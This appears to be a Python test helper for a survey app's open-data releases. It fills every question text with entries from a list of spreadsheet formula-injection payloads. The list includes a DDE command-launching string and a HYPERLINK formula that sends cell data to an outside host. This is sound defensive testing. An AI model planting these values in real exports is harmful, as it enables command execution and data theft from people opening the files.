"""A survey with every kind of question whose texts mean harm, and a release of it, for the tests of open data."""

import json
from dataclasses import replace
from datetime import date

from app.config import PROJECT
from app.domain.cube import Cube
from app.domain.option import Option
from app.domain.profile import LIVE
from app.domain.question import settings
from app.domain.questionnaire import load
from app.domain.release import Edition, release
from app.domain.text import Text
from app.web.results.data.files import Issue
from tests.web.test_results import invented

TOUR = PROJECT / "examples" / "fragearten" / "fragearten.json"
HOSTILE = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "−1+1",
    "'=1+1",
    "''x",
    " =1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    '"=1+1"',
    '=HYPERLINK("https://example.org?x="&A1,"here")',
    "=cmd|' /C calc'!A0",
    "%0A=1+1",
    "|x",
    "a;=1+1",
    "a;'=1+1",
    "a,=1+1",
    "line\n=1+1",
    'x";=1+1;"',
    "{=1+1}",
    "مرحبا =1+1",
    "=مرحبا",
    "ሰላም",
)


def issue(people=300, path=TOUR, number=1, before=None):
    questionnaire = load(json.loads(path.read_text(encoding="utf-8")))
    return issue_of(questionnaire, people, number, before)


def issue_of(questionnaire, people, number=1, before=None):
    cube = Cube.build(questionnaire, invented(questionnaire, people, 1), b"k" * 32, LIVE)
    made = release(questionnaire, Edition(number, date(2025, 7, 14), 1, True), cube, before)
    return Issue(questionnaire, made, before, made)


def hostile_issue():
    """The tour of all kinds, with one of HOSTILE in the place of every text, in turn."""
    asked = turned(load(json.loads(TOUR.read_text(encoding="utf-8"))))
    fewer = replace(asked, languages=("de", "ar"))
    return issue_of(fewer.replacing(lambda question: replace(question, dimension=False)), 100)


def turned(asked):
    words = iter(HOSTILE * 40)

    def text(one):
        return Text(dict.fromkeys(one.words, next(words))) if one else one

    def evil(value):
        if isinstance(value, Text):
            return text(value)
        if isinstance(value, tuple) and value and isinstance(value[0], Option):
            return tuple(replace(option, label=text(option.label)) for option in value)
        return value

    def question(one):
        return replace(one, **{f.name: evil(getattr(one, f.name)) for f in settings(type(one))})

    return replace(asked, title=text(asked.title)).replacing(question)
